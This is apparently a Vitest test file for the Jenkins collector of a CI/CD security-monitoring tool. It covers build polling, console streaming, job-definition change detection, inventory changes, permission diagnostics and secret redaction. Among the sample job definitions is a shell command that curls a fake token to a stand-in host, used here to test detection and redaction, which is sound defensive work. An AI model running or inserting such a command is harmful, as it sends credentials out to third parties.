// Jenkins as it is read: builds that no event told of, consoles while they are written.
import { afterEach, beforeEach, expect, test } from 'vitest';
import { jenkins } from '../../../services/collector/systems/jenkins/jenkins.ts';
import { HOUR, MINUTE } from '../../../services/core/time.ts';
import { makeSecret } from '../../helpers/secrets.ts';
import { type Build, type JenkinsApi, startJenkinsApi } from './jenkins-api.ts';
import { type ReadSystem, readSystem, type TestClock, testClock } from './reading.ts';

const NOW = Date.parse('2026-03-02T10:00:00Z');
let api: JenkinsApi;
let clock: TestClock;
let read: ReadSystem;

beforeEach(async () => {
  api = await startJenkinsApi();
  clock = testClock(NOW);
  const settings = { type: 'jenkins', url: api.url, user: 'pipewarden', token: '${env:TOKEN}' };
  read = await readSystem({ system: jenkins, settings, clock, secrets: { '${env:TOKEN}': 'the-token' } });
});
afterEach(async () => {
  await read.close();
  await api.close();
});

function build(number: number, minutesAgo: number, more: Partial<Build> = {}): Build {
  return { number, timestamp: NOW - minutesAgo * MINUTE, building: false, console: 'Finished: SUCCESS\n', ...more };
}

const told = async () =>
  (await read.activities())
    .filter(({ kind }) => kind === 'run')
    .map(({ native_type, cicd }) => `${cicd?.pipeline?.name}#${cicd?.pipeline?.run?.id} ${native_type}`)
    .sort();
const lines = () => read.lines();

test('builds of all folders are told once, from their start to their end', async () => {
  const deep = 'org/team/service/branches/feature%2Fx/nightly';
  api.jobs.set('shop', [build(1, 300), build(2, 20), build(3, 5, { building: true })]);
  api.jobs.set(deep, [build(9, 10)]);
  await read.poll('builds');
  await read.poll('builds');
  expect(await told()).toEqual([
    `${deep}#9 FINALIZED`,
    `${deep}#9 STARTED`,
    'shop#2 FINALIZED',
    'shop#2 STARTED',
    'shop#3 STARTED',
  ]);
  for (const one of api.jobs.get('shop') ?? []) one.building = false;
  // It took longer than anything that is looked at again by its time.
  clock.move(3 * HOUR);
  api.jobs.get('shop')?.push(build(4, -180));
  await read.poll('builds');
  await read.poll('builds');
  expect((await told()).filter((each) => each.startsWith('shop#3') || each.startsWith('shop#4'))).toEqual([
    'shop#3 FINALIZED',
    'shop#3 STARTED',
    'shop#4 FINALIZED',
    'shop#4 STARTED',
  ]);
  expect(api.calls[0]?.headers.authorization).toBe(`Basic ${Buffer.from('pipewarden:the-token').toString('base64')}`);
});

test('what is asked for has the id of what the plugin sent', async () => {
  const url = 'https://jenkins.example.org/job/shop/7/';
  const about = {
    url,
    queueId: 3,
    result: 'SUCCESS',
    duration: 4_000,
    artifacts: [{ fileName: 'shop.jar', relativePath: 'target/shop.jar' }],
    actions: [
      {},
      { parameters: [{ name: 'REGION', value: 'eu' }, { name: 'KEY' }] },
      {
        lastBuiltRevision: { SHA1: 'c'.repeat(40), branch: [{ name: 'refs/remotes/origin/main' }] },
        remoteUrls: ['https://github.com/acme/shop.git'],
      },
    ],
  };
  api.jobs.set('shop', [build(7, 2, { about })]);
  await read.poll('builds');
  const polled = (await read.activities()).filter(({ source }) => source === 'jenkins.event');
  expect(polled.find(({ native_type }) => native_type === 'FINALIZED')).toMatchObject({
    observed_at: NOW - 2 * MINUTE + 4_000,
    vcs: { repository: { name: 'acme/shop' }, ref: { head: { name: 'main', revision: 'c'.repeat(40) } } },
    cicd: { pipeline: { name: 'shop', run: { id: '7', state: 'finished', result: 'success', url } } },
  });
  expect(polled.find(({ kind }) => kind === 'secret')?.detail).toEqual({ action: 'parameters', names: ['REGION'] });

  const sent = (phase: string) => ({
    source: 'jenkins.event',
    received_at: NOW,
    body: {
      name: 'shop',
      url: 'job/shop/',
      build: { full_url: url, number: 7, phase, url: 'job/shop/7/', parameters: { REGION: 'eu' } },
    },
  });
  await read.follow([sent('STARTED'), sent('FINALIZED')]);
  const ids = (await read.activities())
    .filter(({ source, kind }) => source === 'jenkins.event' && kind !== 'artifact')
    .map(({ id }) => id);
  expect(new Set(ids).size).toBe(new Set(polled.filter(({ kind }) => kind !== 'artifact').map(({ id }) => id)).size);
});

const started = (number: number) => ({
  source: 'jenkins.event',
  received_at: NOW,
  body: { name: 'shop', url: 'job/shop/', build: { number, phase: 'STARTED', timestamp: NOW } },
});

test('a console is read while it grows; notes and ends of lines do not lead astray', async () => {
  const note = '\u001b[8mha:////4AAAA\u001b[0m';
  const secret = makeSecret('github-personal-token', 3);
  const one = build(7, 0, { building: true, console: '' });
  api.jobs.set('shop', [one]);
  const pieces = [
    `${note}Started by user mara\n+ make`,
    ` all\n${note}+ echo ${secret}\n`,
    'progress 1\rprogress 2',
    '\nüber\n',
    'Finished: SUCCESS\n',
  ];
  api.trouble = ({ path }) => {
    if (!path.endsWith('/progressiveText')) return undefined;
    one.console += pieces.shift() ?? '';
    one.building = pieces.length > 0;
    return undefined;
  };
  expect(await read.follow([started(7)])).toBe(0);
  const found = await lines();
  expect(found.filter((line) => !line.startsWith('+ echo'))).toEqual([
    'Started by user mara',
    '+ make all',
    'progress 1\rprogress 2',
    'über',
    'Finished: SUCCESS',
  ]);
  expect(found.join('\n')).not.toContain(secret);
  // It is over: another event of the same build leads to nothing more.
  await read.follow([
    { ...started(7), body: { ...started(7).body, build: { number: 7, phase: 'FINALIZED', timestamp: NOW } } },
  ]);
  expect(await lines()).toEqual(found);
});

test('a console that is over is read in one go; one that is not there is no error', async () => {
  api.jobs.set('shop', [build(7, 1, { console: `${'line\n'.repeat(3_000)}Finished: SUCCESS\n` })]);
  expect(await read.follow([started(7), started(8)])).toBe(0);
  expect(await lines()).toHaveLength(3_001);
  expect(api.lines().filter((line) => line.includes('progressiveText'))).toHaveLength(1);
});

function job(command: string): string {
  return `<project><builders><hudson.tasks.Shell><command>${command}</command></hudson.tasks.Shell></builders></project>`;
}

test('a job is told when it is defined otherwise, each time; of branches and of what is not to be seen nothing is', async () => {
  const secret = makeSecret('github-personal-token', 5);
  for (const name of ['shop', 'old', 'hidden', 'service/main']) api.jobs.set(name, []);
  api.classes.set('service', 'org.jenkinsci.plugins.workflow.multibranch.WorkflowMultiBranchProject');
  for (const name of ['shop', 'old', 'service', 'service/main']) api.definitions.set(name, job('make'));
  const look = () => read.poll('definitions');
  await look();
  expect(await read.activities()).toEqual([]);
  for (const command of [`make; curl -H "X: ${secret}" https://collect.example`, 'make', 'make; ls', 'make']) {
    api.definitions.set('shop', job(command));
    await look();
    await look();
  }
  api.jobs.delete('old');
  api.jobs.set('new', []);
  api.definitions.set('new', job('make'));
  api.definitions.set('service/main', job('other'));
  await look();
  const told = await read.activities();
  expect(told.map(({ native_type, cicd }) => `${cicd?.pipeline?.name} ${native_type}`).sort()).toEqual([
    'new definition.added',
    'old definition.removed',
    ...Array(4).fill('shop definition.changed'),
  ]);
  expect(new Set(told.map(({ id }) => id)).size).toBe(6);
  expect(JSON.stringify(told)).toContain('collect.example');
  expect(JSON.stringify(told)).not.toContain(secret);
  // Somebody took away what its user may see.
  api.jobs.clear();
  await look();
  expect(await read.activities()).toHaveLength(6);
});

test('nodes, plugins and guards are told when they are set otherwise', async () => {
  const node = (displayName: string, more: object = {}) => ({
    displayName,
    numExecutors: 2,
    temporarilyOffline: false,
    ...more,
  });
  const pod = node('pod-x7', { _class: 'org.csanchez.jenkins.plugins.kubernetes.KubernetesComputer' });
  api.pages.set('/api/json', { useSecurity: true, useCrumbs: true });
  api.pages.set('/computer/api/json', { computer: [node('builder-3')] });
  await read.poll('inventory');
  api.pages.set('/api/json', { useSecurity: false, useCrumbs: true });
  api.pages.set('/computer/api/json', {
    computer: [node('builder-3', { temporarilyOffline: true, offlineCauseReason: 'quarantine' }), pod],
  });
  // Its user is allowed to see them now, so they are nothing new.
  api.pages.set('/pluginManager/api/json', { plugins: [{ shortName: 'git', version: '5.2.1', enabled: true }] });
  await read.poll('inventory');
  api.pages.set('/pluginManager/api/json', { plugins: [{ shortName: 'git', version: '5.2.2', enabled: true }] });
  await read.poll('inventory');
  expect((await read.activities()).map(({ kind, detail, cicd }) => [kind, detail, cicd?.worker?.name])).toEqual(
    expect.arrayContaining([
      ['protection', { change: 'removed', what: 'security: security', target: 'security' }, undefined],
      ['runner', { action: 'node.changed' }, 'builder-3'],
      ['integration', { action: 'plugin.changed', name: 'git' }, undefined],
    ]),
  );
  expect(await read.activities()).toHaveLength(3);
});

test('the doctor says which permission is missing', async () => {
  const problems = async () =>
    Promise.all(
      read.connection.conditions.map(async ({ name, problem }) => [name, await problem(new AbortController().signal)]),
    );
  expect(await problems()).toContainEqual(['jenkins credential', 'pipewarden sees no job: it needs Job/Read']);
  api.jobs.set('shop', []);
  expect(await problems()).toContainEqual([
    'jenkins definitions',
    'pipewarden needs Job/ExtendedRead (plugin Extended Read Permission); or take definitions out of `read`',
  ]);
  api.definitions.set('shop', job('make'));
  api.configuration = 'jenkins: { numExecutors: 2 }\n';
  expect((await problems()).filter(([, problem]) => problem !== undefined)).toEqual([]);
  api.trouble = () => ({ status: 401, body: {} });
  await expect(problems()).rejects.toMatchObject({ code: 'API_REFUSED' });
});
